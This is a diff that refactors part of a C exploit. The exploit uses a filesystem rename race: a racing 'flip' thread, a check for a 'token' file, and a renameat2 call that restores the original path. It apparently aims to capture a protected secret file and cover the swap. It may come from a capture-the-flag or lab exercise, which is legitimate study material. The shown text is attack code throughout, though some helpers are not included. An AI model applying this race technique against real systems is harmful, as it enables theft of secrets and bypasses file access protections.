@@ -6,21 +6,15 @@ static void *flip(void *unused) {
     return unused;
 }
 static int try_once(void) {
-    char data[8] = "";
     if (rename((char *)path, "src/carried")) return 0;
-    int fd = open("src/carried", O_RDONLY);
-    ssize_t got = read(fd, data, 5);
-    close(fd);
-    int stolen = got == 5 && !memcmp(data, "token", 5);
+    int secret = stolen(open("src/carried", O_RDONLY));
     /* put it back, by a name that does not change */
-    while (rename("src/carried", stolen ? "secretz/back" : "secretz/key")) {}
-    if (stolen)
+    while (rename("src/carried", secret ? "secretz/back" : "secretz/key")) {}
+    if (secret)
         while (syscall(SYS_renameat2, AT_FDCWD, "secretz/back", AT_FDCWD, path, 1u)) {}
-    return stolen;
+    return secret;
 }
 int main(int argc, char **argv) {
-    pthread_t thread;
     (void)argc;
-    pthread_create(&thread, 0, flip, 0);
-    return race(argv, try_once);
+    return race(argv, flip, try_once);
 }
